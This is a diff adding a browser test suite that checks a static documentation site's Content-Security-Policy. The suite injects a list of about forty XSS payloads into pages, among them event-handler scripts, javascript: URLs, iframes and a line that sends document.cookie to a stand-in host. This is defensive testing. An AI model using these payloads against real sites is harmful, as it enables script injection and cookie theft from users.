@@ -1,0 +1,193 @@
+"""Every page's Content-Security-Policy, alone: what no check saw neither runs nor calls out."""
+
+import base64
+import hashlib
+import json
+import mimetypes
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from functools import partial
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import markdown
+import pytest
+from bs4 import BeautifulSoup
+from playwright.sync_api import Browser, Dialog, Page, Route, expect
+
+from tests.conftest import DESK
+from tests.static_site import Site
+from tests.test_guard import ACTIVE
+from tests.test_zensical import Engines, built
+
+__all__ = ["built"]
+
+HOST = "https://notes.test"
+ELSEWHERE = "https://elsewhere.test"
+PAGE = "papers/roberta/index.html"
+
+HTML = [
+    "<script>window.ran = 1</script>",
+    f'<script src="{ELSEWHERE}/x.js"></script>',
+    f'<script type="module">import("{ELSEWHERE}/x.js")</script>',
+    f'<script type="module" src="{ELSEWHERE}/x.js"></script>',
+    '<script src="data:text/javascript,window.ran=1"></script>',
+    '<script>"use strict"; fetch("https://elsewhere.test/" + document.cookie)</script>',
+    '<img src="nothing.png" onerror="window.ran = 1" alt="">',
+    '<svg onload="window.ran = 1"></svg>',
+    '<svg><animate onbegin="window.ran = 1" attributeName="x" dur="1s"/></svg>',
+    "<svg><script>window.ran = 1</script></svg>",
+    f'<svg><script href="{ELSEWHERE}/x.js"></script></svg>',
+    f'<svg><use href="{ELSEWHERE}/x.svg#a"></use><image href="{ELSEWHERE}/a.png"></image></svg>',
+    '<details open ontoggle="window.ran = 1"><summary>x</summary></details>',
+    '<input autofocus onfocus="window.ran = 1">',
+    '<div style="animation: md-status 1s" onanimationstart="window.ran = 1">x</div>',
+    '<video autoplay onerror="window.ran = 1"><source src="x" onerror="window.ran = 1"></video>',
+    '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
+    f'<iframe src="{ELSEWHERE}/"></iframe>',
+    '<iframe src="javascript:parent.ran = 1"></iframe>',
+    '<iframe src="data:text/html,<script>parent.ran = 1</script>"></iframe>',
+    f'<object data="{ELSEWHERE}/x.svg"></object><embed src="{ELSEWHERE}/x.svg">',
+    f'<base href="{ELSEWHERE}/"><script src="x.js"></script><img src="a.png" alt="">',
+    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css"><link rel="icon" href="{ELSEWHERE}/x.ico">',
+    f'<link rel="prefetch" href="{ELSEWHERE}/x"><link rel="modulepreload" href="{ELSEWHERE}/x.js">',
+    f'<link rel="manifest" href="{ELSEWHERE}/x.json">',
+    f'<link rel="preload" as="font" href="{ELSEWHERE}/f">',
+    f'<style>@import "{ELSEWHERE}/x.css"; body {{ background: url({ELSEWHERE}/x.png) }}</style>',
+    f"<style>@font-face {{ font-family: x; src: url({ELSEWHERE}/f) }} p {{ font: 1em x }}</style>",
+    f'<p style="position: fixed; inset: 0; background: url({ELSEWHERE}/x.png)">x</p>',
+    f'<math><mstyle style="background: url({ELSEWHERE}/x.png)"><mi>x</mi></mstyle></math>',
+    f'<img src="{ELSEWHERE}/a.png" alt=""><img srcset="{ELSEWHERE}/a.png 2x" alt="">',
+    f'<picture><source srcset="{ELSEWHERE}/a.png"><img alt="" src="x.png"></picture>',
+    f'<audio autoplay src="{ELSEWHERE}/a.mp3"></audio><video poster="{ELSEWHERE}/p.png"></video>',
+    f'<a ping="{ELSEWHERE}/" href="#x" id="press">x</a>',
+    '<a href="javascript:window.ran = 1" id="press">x</a>',
+    '<form action="javascript:window.ran = 1"><button id="press">x</button></form>',
+    f'<form action="{ELSEWHERE}/"><input name="a"><button id="press">x</button></form>',
+    f'<button form="f" formaction="{ELSEWHERE}/" id="press">x</button><form id="f"></form>',
+    f'<code id="__config">{{"base": "{ELSEWHERE}", "features": [], "translations": {{}}}}</code>',
+    f'<div><template shadowrootmode="open"><img src="{ELSEWHERE}/a.png"></template></div>',
+]
+
+
+def payloads() -> Iterator[str]:
+    """Yield HTML that a check would have refused, Markdown's without one included."""
+    yield from HTML
+    for text in ACTIVE:
+        made = markdown.markdown(text, extensions=["attr_list", "md_in_html", "fenced_code"])
+        yield made.replace("alert(1)", "window.ran = 1").replace("e.com", "elsewhere.test")
+
+
+@dataclass
+class Visit:
+    """A page with a payload: what it asked of others, and what showed that something ran."""
+
+    page: Page
+    payload: str = ""
+    foreign: list[str] = field(default_factory=list)
+    ran: list[str] = field(default_factory=list)
+
+
+@pytest.fixture
+def visit(browser: Browser, site: Site) -> Iterator[Visit]:
+    """A page whose answers come from the built site, without a header of any server."""
+    context = browser.new_context(viewport=DESK)  # type: ignore[arg-type]
+    found = Visit(context.new_page())
+
+    def answer(route: Route) -> None:
+        address = urlsplit(route.request.url)
+        if f"{address.scheme}://{address.netloc}" != HOST:
+            found.foreign.append(route.request.url)
+            route.abort()
+            return
+        file = site.folder / address.path.lstrip("/")
+        file = file / "index.html" if file.is_dir() else file
+        if not file.is_file():
+            route.fulfill(status=404, body="")
+            return
+        kind = mimetypes.guess_type(file.name)[0] or "text/plain"
+        body = file.read_bytes()
+        if file.name == "index.html":
+            body = body.replace(b"</h1>", b"</h1>" + found.payload.encode(), 1)
+        if file.name == "search_index.json":
+            index = json.loads(body)
+            for each in index["docs"]:
+                each["title"] = "마스크 <img src=x onerror='window.ran = 1'>"
+            body = json.dumps(index).encode()
+        route.fulfill(body=body, content_type=kind)
+
+    def dismiss(dialog: Dialog) -> None:
+        found.ran.append(dialog.message)
+        dialog.dismiss()
+
+    found.page.on("dialog", dismiss)
+    context.route("**/*", answer)
+    yield found
+    context.close()
+
+
+@pytest.mark.browser
+def test_no_payload_runs_or_asks_another_host(visit: Visit) -> None:
+    for payload in payloads():
+        visit.payload = payload
+        visit.page.goto(f"{HOST}/papers/roberta/?h=마스크", wait_until="load")
+        for pressed in visit.page.locator("#press").all():
+            pressed.dispatch_event("click")
+        visit.page.mouse.move(5, 5)
+        visit.page.wait_for_timeout(60)
+        assert visit.page.evaluate("window.ran") is None, payload
+        assert (visit.foreign, visit.ran) == ([], []), payload
+        assert visit.page.url.startswith(HOST), payload
+
+
+@pytest.mark.browser
+def test_without_the_policy_the_same_payloads_run_and_ask(visit: Visit) -> None:
+    """So the test above tests something."""
+    harmful = 0
+    for payload in HTML:
+        visit.foreign.clear()
+        page = visit.page.context.new_page()
+        body = f"<!doctype html><h1>x</h1>{payload}"
+        page.route(f"{HOST}/bare/", partial(Route.fulfill, body=body, content_type="text/html"))
+        page.goto(f"{HOST}/bare/", wait_until="load")
+        if page.locator("#press").count():
+            page.locator("#press").first.dispatch_event("click")
+        page.wait_for_timeout(60)
+        elsewhere = bool(visit.foreign) or not page.url.startswith(HOST)
+        harmful += elsewhere or page.evaluate("window.ran") is not None
+        page.close()
+    assert harmful > len(HTML) * 0.7
+
+
+@pytest.mark.browser
+def test_a_title_in_the_search_runs_nothing(visit: Visit) -> None:
+    visit.page.goto(f"{HOST}/papers/roberta/")
+    visit.page.keyboard.press("/")
+    visit.page.locator(".md-search__input").fill("마스크")
+    expect(visit.page.locator(".md-search-result__link").first).to_be_visible()
+    visit.page.wait_for_timeout(200)
+    assert visit.page.evaluate("window.ran") is None
+    assert (visit.foreign, visit.ran) == ([], [])
+
+
+@pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
+def test_every_page_has_a_policy_first_that_allows_its_own_scripts_alone(
+    built: Engines, engine: str
+) -> None:
+    pages = 0
+    for file in Path(getattr(built, engine)).rglob("*.html"):
+        soup = BeautifulSoup(file.read_text("utf-8"), "html.parser")
+        assert soup.head
+        names = soup.head.find_all(True)[:2]
+        assert names[1].get("http-equiv") == "Content-Security-Policy", file
+        policy = str(names[1]["content"])
+        assert policy.startswith("default-src 'none'; script-src 'self' ")
+        for script in soup.find_all("script"):
+            if script.get("src") or script.get("type") == "application/json":
+                continue
+            digest = hashlib.sha256(str(script.string).encode()).digest()
+            assert base64.b64encode(digest).decode() in policy, (file, script)
+        for made in soup.find_all(True):
+            assert not [name for name in made.attrs if name.startswith("on")], (file, made)
+        pages += 1
+    assert pages > 10
